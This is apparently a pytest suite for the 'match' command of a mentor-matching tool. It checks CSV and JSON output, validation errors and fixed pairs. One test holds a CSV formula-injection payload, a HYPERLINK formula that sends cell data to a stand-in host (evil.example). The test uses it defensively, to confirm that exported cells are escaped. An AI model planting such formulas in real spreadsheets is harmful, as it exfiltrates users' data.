"""`python -m server match` in a real subprocess."""

from __future__ import annotations

import argparse
import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from server.config import load_settings
from server.matching.cli import add_match_command

MENTORS = """identity,name,timezone,availability,languages,skills,capacity
ada,Ada Lovelace,Europe/London,Mon 09:00-12:00; Wed 18:00-20:00,en,python;sql,2
eve,Eve,America/New_York,Mon 08:00-11:00,en,go,1
"""
MENTEES = """identity,name,timezone,availability,languages,skills
bo,Bo,Europe/Berlin,Mon 10:00-13:00,en,python
cy,Cy,America/Chicago,Mon 07:00-10:00,en,go;python
dee,Dee,Asia/Tokyo,Sat 10:00-11:00,ja,python
"""
CRITERIA = """availability: {start: 2025-03-10}
criteria:
  - {name: skills, rule: overlap, weight: high}
  - {name: time together, rule: shared_hours, min_hours: 1, target_hours: 3, weight: must}
filters: {shared_language: true}
"""


def run(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "server", "match", *args],
        capture_output=True, text=True, timeout=60, cwd=Path(__file__).parents[3],
        env={"PATH": "/usr/bin:/bin", "PAIRWISE_DATA_DIR": str(tmp_path / "data")},
    )  # fmt: skip


def files(tmp_path: Path, mentees: str = MENTEES) -> list[str]:
    for name, text in (("m.csv", MENTORS), ("e.csv", mentees), ("c.yaml", CRITERIA)):
        (tmp_path / name).write_text(text)
    return ["--mentors", str(tmp_path / "m.csv"), "--mentees", str(tmp_path / "e.csv"),
            "--criteria", str(tmp_path / "c.yaml")]  # fmt: skip


def test_match_writes_csv_and_prints_a_summary(tmp_path: Path) -> None:
    proc = run(tmp_path, *files(tmp_path), "--out", str(tmp_path / "pairs.csv"))
    assert proc.returncode == 0, proc.stderr
    assert "matched                                  2" in proc.stdout
    assert "unmatched: no mentor passes the filters  1" in proc.stdout
    assert "matching [##############################] 100%" in proc.stderr
    rows = list(csv.DictReader((tmp_path / "pairs.csv").open()))
    assert [(r["mentee"], r["mentor"], r["score"]) for r in rows] == [
        ("bo", "ada", "100.0"), ("cy", "eve", "75.0"), ("dee", "", ""),
    ]  # fmt: skip
    assert rows[0]["slots"] == "Mon 10:00-13:00 Europe/Berlin / Mon 09:00-12:00 Europe/London"


def test_match_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    """Identities come from the programme's own files: one written as a formula must reach
    the spreadsheet as text (OWASP CSV injection), and still read back as typed."""
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
    mentors = MENTORS.replace("ada,Ada Lovelace", f'"{evil.replace(chr(34), chr(34) * 2)}",Ada')
    mentees = MENTEES.replace("bo,Bo,", "@SUM(1+1),Bo,").replace("cy,Cy,", "+cy,Cy,")
    names = files(tmp_path, mentees)
    (tmp_path / "m.csv").write_text(mentors)
    proc = run(tmp_path, *names, "--out", str(tmp_path / "pairs.csv"))
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader((tmp_path / "pairs.csv").open()))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], rows
    assert {rows[0][0], rows[0][1]} == {"'@SUM(1+1)", "'" + evil}


def test_match_writes_json_in_stable_mode(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # In-process: the JSON writer and stable mode (the subprocess path is covered above).
    out = tmp_path / "pairs.json"
    parser = argparse.ArgumentParser()
    commands: dict = {}
    add_match_command(parser.add_subparsers(), commands)
    args = parser.parse_args(["match", *files(tmp_path), "--mode", "stable", "--out", str(out)])
    assert commands["match"](args, load_settings(data_dir=tmp_path)) == 0
    pairs = json.loads(out.read_text())
    assert [p["mentor"] for p in pairs] == ["ada", "eve", None]
    assert pairs[0]["contributions"] == {"skills": 50.0, "time together": 50.0}
    assert "mode                                     stable" in capsys.readouterr().out


def test_bad_profiles_fail_with_the_row(tmp_path: Path) -> None:
    bad = MENTEES + "zed,Zed,Europe/Pariss,Mon 10:00-11:00,en,go\n"
    proc = run(tmp_path, *files(tmp_path, bad), "--out", str(tmp_path / "pairs.csv"))
    assert proc.returncode == 2
    assert "row 5: unknown time zone 'Europe/Pariss'" in proc.stderr
    assert not (tmp_path / "pairs.csv").exists()


@pytest.mark.parametrize(("which", "where"), [("e.csv", 65), ("c.yaml", 70)])
def test_a_file_that_is_not_utf8_is_one_line_and_no_traceback(
    tmp_path: Path, which: str, where: int
) -> None:
    args = files(tmp_path)
    path = tmp_path / which
    text = path.read_bytes()
    path.write_bytes(text[:where] + "\xe9".encode("latin-1") + text[where:])
    proc = run(tmp_path, *args, "--out", str(tmp_path / "pairs.csv"))
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == [
        f"error: {path}: not UTF-8 text (byte 0xe9 at offset {where}); save it as UTF-8"
    ]
    assert not (tmp_path / "pairs.csv").exists()


def test_fixed_pairs_from_a_file_are_kept_and_warned_about(tmp_path: Path) -> None:
    (tmp_path / "fixed.csv").write_text("mentee,mentor\ndee,eve\n")
    out = tmp_path / "pairs.csv"
    proc = run(
        tmp_path, *files(tmp_path), "--fixed", str(tmp_path / "fixed.csv"), "--out", str(out)
    )
    assert proc.returncode == 0, proc.stderr
    assert "warning: fixed pair dee - eve kept although it fails: time together (must), " \
        "shared language" in proc.stderr  # fmt: skip
    rows = {r["mentee"]: r for r in csv.DictReader(out.open())}
    assert (rows["dee"]["mentor"], rows["dee"]["fixed"]) == ("eve", "True")


def test_a_fixed_pair_naming_nobody_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "fixed.json").write_text('[{"mentee": "dee", "mentor": "zed"}]')
    proc = run(tmp_path, *files(tmp_path), "--fixed", str(tmp_path / "fixed.json"))
    assert proc.returncode == 2
    assert proc.stderr.splitlines() == ["error: fixed pair: no mentor 'zed'"]
